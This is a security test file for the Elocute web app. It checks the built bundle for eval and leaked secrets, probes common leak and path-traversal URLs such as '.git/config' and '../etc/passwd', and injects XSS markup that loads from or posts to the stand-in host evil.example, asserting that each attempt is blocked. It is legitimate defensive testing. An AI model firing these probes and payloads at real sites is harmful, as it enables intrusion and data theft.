import { tokenStorageKey } from '@elocute/contract/auth'
import { readdir, readFile } from 'node:fs/promises'
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { expectNoMail } from '../support/no-mail.ts'
import { expect, test } from '../support/test.ts'

const dist = join(import.meta.dirname, '../../apps/web/dist')

/** Every built file and its content. */
const built = async (ending: RegExp): Promise<[name: string, text: string][]> => {
  const names = await readdir(dist, { recursive: true })
  const chosen = names.filter((name) => ending.test(name))
  return Promise.all(
    chosen.map(async (name) => [name, await readFile(join(dist, name), 'utf8')] as [string, string]),
  )
}

test.describe('the build', () => {
  test('has no inline script or style in its pages, and loads nothing from other hosts', async () => {
    const pages = await built(/\.html$/)
    expect(pages.length).toBeGreaterThan(0)
    for (const [name, html] of pages) {
      expect([name, html]).not.toEqual([
        name,
        expect.stringMatching(/<script(?![^>]*\ssrc=)|<style|\son\w+=|style=/i),
      ])
      expect([name, html]).not.toEqual([name, expect.stringMatching(/(src|href)="(https?:)?\/\//i)])
    }
  })

  test('never evaluates text as code, and ships no maps, tests or secrets', async () => {
    const scripts = await built(/\.js$/)
    expect(scripts.length).toBeGreaterThan(20)
    for (const [name, script] of scripts) {
      const found =
        /\beval\(|new Function\(|sourceMappingURL|document\.write\(|-----BEGIN|sk-[A-Za-z0-9]{20}/.exec(
          script,
        )
      expect([name, found?.[0]]).toEqual([name, undefined])
    }
    // The documentation of the API, which no page shows.
    expect(scripts.filter(([, script]) => /\bsummary:[`'"][A-Z]/.test(script)).map(([name]) => name)).toEqual(
      [],
    )
    const names = await readdir(dist, { recursive: true })
    expect(names.filter((name) => /\.map$|\.test\.|\.env|\.ts$|gallery/.test(name))).toEqual([])
  })
})

const folders = ['', '/api', '/assets', '/static', '/files']
const secrets = [
  '.env',
  '.git/config',
  '.git/HEAD',
  '.npmrc',
  'package.json',
  'package-lock.json',
  'data/files',
  'server.ts',
  'index.html.bak',
  'main.js.map',
  'config.json',
  'backup.zip',
]
const usual = [
  '/wp-login.php',
  '/phpinfo.php',
  '/server-status',
  '/actuator/env',
  '/debug/pprof',
  '/.well-known/security.txt.bak',
  '/api/docs/.env',
  '/api/docs/../../package.json',
  '/api/docs/static/../../../package.json',
  '/assets/../../package.json',
  '/assets/%2e%2e/%2e%2e/package.json',
  '/assets/..%2f..%2fpackage.json',
  '/%2e%2e/%2e%2e/etc/passwd',
  '/..%5c..%5cetc/passwd',
  '/assets/',
  '/assets',
  '/api/swagger.json',
  '/api/graphql',
]

test('sixty paths where files are often left behind have nothing', async ({ server }) => {
  const paths = [...folders.flatMap((folder) => secrets.map((name) => `${folder}/${name}`)), ...usual]
  expect(paths.length).toBeGreaterThanOrEqual(60)
  const textOf = (path: string) => fetch(`${server.url}${path}`).then((response) => response.text())
  const nothing = [await textOf('/nowhere'), await textOf('/nowhere.js')]
  for (const path of paths) {
    const response = await fetch(`${server.url}${path}`, { redirect: 'manual' })
    expect([path, response.status]).toEqual([path, 404])
    const said = await response.text()
    // The page for an unknown address, or the same as JSON; never the requested file.
    expect(nothing.includes(said) || said.includes('"not_found"'), path).toBe(true)
  }
})

test.describe('injected markup', () => {
  test.use({ expectedConsole: [/Content Security Policy|violates|Refused to|getUserMedia/] })

  test('runs nothing and loads nothing', async ({ page, violations }) => {
    const asked: string[] = []
    await page.route(/evil\.example/, async (route) => {
      asked.push(route.request().url())
      await route.fulfill({ body: '' })
    })
    await page.goto('/auth')
    // Otherwise the page's own later fetches would be blocked again, after the list has been read.
    await page.waitForLoadState('networkidle')
    const expected = [
      'base-uri',
      'connect-src',
      'form-action',
      'frame-src',
      'img-src',
      'media-src',
      'object-src',
      'script-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-elem',
    ]
    const directives = await page.evaluate(async (all) => {
      const seen = new Set<string>()
      document.addEventListener('securitypolicyviolation', (event) => {
        seen.add(event.effectiveDirective)
      })
      const add = (html: string) => {
        document.body.append(document.createRange().createContextualFragment(html))
      }
      add('<script>window.__x=1</script>')
      add('<img src=x onerror="window.__x=1">')
      add('<script src="https://evil.example/x.js"></script>')
      add('<img src="https://evil.example/x.png">')
      add('<link rel="stylesheet" href="https://evil.example/x.css">')
      add('<style>body{display:none}</style>')
      add('<iframe src="https://evil.example/"></iframe>')
      add('<object data="https://evil.example/"></object>')
      add('<video src="https://evil.example/x.mp4"></video>')
      add('<form id="steal" action="https://evil.example/"><input name="a"></form>')
      document.querySelector<HTMLFormElement>('#steal')?.submit()
      await fetch('https://evil.example/').catch(() => undefined)
      const base = document.createElement('base')
      base.href = 'https://evil.example/'
      document.head.append(base)
      for (const unwrap of [
        () => new WebSocket('wss://evil.example/'),
        () => new Worker('data:text/javascript,postMessage(1)'),
      ])
        try {
          unwrap()
        } catch {
          // Refused at once, which is correct too.
        }
      // In a separate task: code that a test evaluates may itself evaluate text.
      setTimeout(() => {
        // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- Tried on purpose.
        new Function('window.__x=1')()
      })
      for (let tries = 0; tries < 100 && !all.every((directive) => seen.has(directive)); tries++)
        await new Promise((resolve) => setTimeout(resolve, 50))
      return [...seen]
    }, expected)
    violations.length = 0
    expect(await page.evaluate(() => window.__x)).toBeUndefined()
    expect(asked).toEqual([])
    expect(directives).toEqual(expect.arrayContaining(expected))
  })

  test('every page of these tests reports violations', async ({ page, violations }) => {
    await page.goto('/auth')
    await page.evaluate(() => {
      document.body.append(document.createRange().createContextualFragment('<script>window.__x=1</script>'))
    })
    await expect.poll(() => violations).toEqual(['blocked: script-src-elem inline'])
    violations.length = 0
  })
})

test.describe('a page of another origin', () => {
  test.use({ expectedConsole: [/CORS|frame|ERR_|Failed to load|getUserMedia/] })

  test('reads nothing, changes nothing and frames nothing', async ({
    page,
    api,
    server,
    mailbox,
    openAs,
  }) => {
    const trainee = await api.trainee()
    await openAs(trainee.token, '/trainee/quizzes')
    const elsewhere = createServer((_request, response) => {
      response.setHeader('Content-Type', 'text/html').end('<!doctype html><title>evil</title>')
    })
    elsewhere.listen(0, '127.0.0.1')
    await once(elsewhere, 'listening')
    const { port } = elsewhere.address() as AddressInfo
    // A different port is another origin, and a different name is another site.
    for (const host of ['127.0.0.1', 'localhost']) {
      await page.goto(`http://${host}:${port}/`)
      const seen = await page.evaluate(
        async ([url, email]) => {
          const read = async (path: string, init?: RequestInit) =>
            fetch(url + path, { credentials: 'include', ...init }).then(
              async (response) => response.type === 'opaque' || (await response.text()),
              () => 'refused',
            )
          const frame = document.createElement('iframe')
          frame.src = `${url}/auth`
          document.body.append(frame)
          await new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }))
          let framed: string
          try {
            framed = frame.contentDocument?.title ?? 'nothing'
          } catch {
            framed = 'refused'
          }
          const json = { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{}' }
          return {
            me: await read('/api/auth/me'),
            modules: await read('/api/module'),
            login: await read('/api/auth/login', json),
            page: await read('/'),
            unasked: await read('/api/auth/forgot_password', {
              method: 'POST',
              mode: 'no-cors',
              headers: { 'Content-Type': 'text/plain' },
              body: JSON.stringify({ email }),
            }),
            framed,
          }
        },
        [server.url, trainee.email] as const,
      )
      expect(seen).toMatchObject({ me: 'refused', modules: 'refused', login: 'refused', page: 'refused' })
      expect(['nothing', 'refused']).toContain(seen.framed)
    }
    elsewhere.close()
    await expectNoMail({ api, mailbox }, trainee.email, 'Your Elocute code for a new password')
    await openAs(trainee.token, '/trainee/quizzes')
    await expect(page.getByRole('heading', { name: 'Quizzes', level: 1 })).toBeVisible()
  })
})

test('after signing out, Back shows nothing', async ({ page, api, openAs }) => {
  await api.trainee({ first: 'Visible', last: 'Person' })
  await openAs(await api.signInAsTrainer(), '/trainer/home')
  await page.goto('/trainer/trainees')
  await expect(page.getByText('Visible Person').first()).toBeVisible()
  await page.getByRole('button', { name: /^User menu of/ }).click()
  await page.getByRole('menuitem', { name: 'Logout' }).click()
  await expect(page).toHaveURL('/')
  await page.goBack()
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  await expect(page.getByText('Visible Person')).toHaveCount(0)
  expect(await page.evaluate(() => Object.keys(localStorage))).not.toContain(tokenStorageKey)
})

test.describe('an address in a browser', () => {
  // What the router of the pages says of the first one.
  test.use({ expectedConsole: [/could not be decoded because it is a malformed URL segment/] })

  test('that nobody can read shows the page for unknown ones, and with a slash too many its page', async ({
    page,
    server,
  }) => {
    for (const path of ['/trainee/%E0%A4%A', '//nowhere/quizzes', '/trainee/a%00b']) {
      const answer = await page.goto(server.url + path)
      expect([path, answer?.status()]).toEqual([path, 404])
      await expect(page.getByRole('heading', { level: 1, name: 'Page not found' }), path).toBeVisible({
        timeout: 8_000,
      })
      await page.getByRole('link', { name: 'Back to the start page' }).click()
      await expect(page).toHaveURL(`${server.url}/`)
    }
    await page.goto(`${server.url}//forgot-password/`)
    await expect(page).toHaveURL(`${server.url}/forgot-password`)
  })
})
